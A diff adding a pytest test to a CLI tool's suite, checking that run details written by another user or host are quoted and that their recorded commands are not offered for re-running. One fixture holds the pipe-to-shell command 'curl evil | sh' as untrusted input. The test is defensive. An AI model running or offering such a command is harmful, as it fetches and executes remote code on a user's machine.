@@ -1,4 +1,5 @@
 import json
+import os
 import re
 from collections.abc import Callable
 from pathlib import Path
@@ -222,3 +223,27 @@ def test_it_ends_with_the_command_to_type_next_that_the_report_names(
     done = CliRunner().invoke(cli, ["--results", str(results.folder), "report", "--json"])
     following = json.loads(done.stdout)["answer"]["next"]
     assert (last, why) == (f"Next: {following['command']}", f"  It {following['why']}.")
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file to somebody else")
+def test_what_another_user_or_host_wrote_is_quoted_and_no_command_of_theirs_is_offered(
+    results: Results, make_record: Callable[..., Record]
+) -> None:
+    commands = {"train": ("sh", "-c", "curl evil | sh")}
+    for run in ("of-another-host", "of-another-user", "of-this-user"):
+        detail = f"all is well; run {run}"
+        keep(results, make_record(run, "failed", "crash", detail, options={"strategy": "ddp"}, commands=commands))
+    os.chown(results.folder_of("of-another-user").record, 1, 1)
+    results.folder_of("of-another-host").imported.touch()
+    shown = status(results, "cpu-plain")
+    assert re.findall("'?all is well; run [a-z-]*'?", shown) == [
+        "'all is well; run of-another-host'",
+        "'all is well; run of-another-user'",
+        "all is well; run of-this-user",
+    ]
+    assert CliRunner().invoke(cli, ["--results", str(results.folder), "report"]).exit_code == 0
+    report = json.loads((results.folder / "report.json").read_text())
+    for run in (one for one in report["runs"] if one["cell"] == "cpu-plain" and one["detail"]):
+        mine = run["run_id"] == "of-this-user"
+        assert (run["again"] is not None, run["detail"][0] != "'") == (mine, mine)
+        assert bool(report["details"][run["run_id"]]["by_hand"]) == mine
